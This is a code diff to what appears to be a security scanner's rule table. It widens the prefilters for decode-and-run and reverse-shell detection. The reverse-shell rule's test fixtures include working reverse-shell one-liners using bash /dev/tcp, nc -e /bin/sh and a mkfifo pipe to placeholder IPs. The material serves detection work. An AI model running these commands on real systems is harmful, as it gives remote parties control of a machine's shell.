@@ -425,7 +425,7 @@ export const TEXT_RULES: readonly TextRule[] = [
       "data = base64.b64decode(payload)\nprint(data)",
       "cat notes.txt | bash-completion",
     ],
-    needs: (t) => t.holds("\\x") || t.any(...DECODE_WORDS),
+    needs: (t) => t.holds("\\x", "\\X") || t.any(...DECODE_WORDS),
     scan: scanDecodeAndRun,
   },
   {
@@ -516,7 +516,8 @@ export const TEXT_RULES: readonly TextRule[] = [
     reason: "a reverse shell hands this machine's shell to someone else's",
     mustMatch: ["bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "nc -e /bin/sh 198.51.100.4 9001", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.1 80 > /tmp/f"],
     mustNotMatch: ["timeout 1 bash -c 'echo > /dev/tcp/localhost/5432' && echo up", "nc -z localhost 8080"],
-    needs: (t) => t.holds("/dev/tcp", "/dev/udp") || t.any("nc", "ncat", "netcat", "socat", "mkfifo"),
+    // The pattern ignores case (`/DEV/TCP` is one too): the words, not the literal, say it may be there.
+    needs: (t) => t.any("tcp", "udp", "nc", "ncat", "netcat", "socat", "mkfifo"),
     scan: (doc) => lineHits(doc, REVERSE_SHELL, true),
   },
   {
